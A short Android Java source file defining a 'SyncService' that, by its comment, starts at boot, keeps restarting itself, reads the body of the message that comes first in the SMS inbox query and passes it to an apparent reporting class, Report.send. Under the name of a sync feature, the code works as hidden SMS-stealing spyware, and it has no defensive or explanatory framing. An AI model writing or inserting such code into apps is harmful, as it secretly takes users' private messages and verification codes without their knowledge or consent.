package cn.example.taihen;

import android.app.Service;
import android.content.Intent;
import android.database.Cursor;
import android.net.Uri;
import android.os.IBinder;

/** Uploads the newest message; started by the boot receiver. */
public class SyncService extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int startId) {
        new Thread(() -> upload()).start();
        return START_STICKY;
    }

    private void upload() {
        Cursor messages = getContentResolver().query(Uri.parse("content://sms/inbox"), null, null, null, null);
        if (messages.moveToFirst()) {
            Report.send(messages.getString(messages.getColumnIndex("body")));
        }
        messages.close();
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
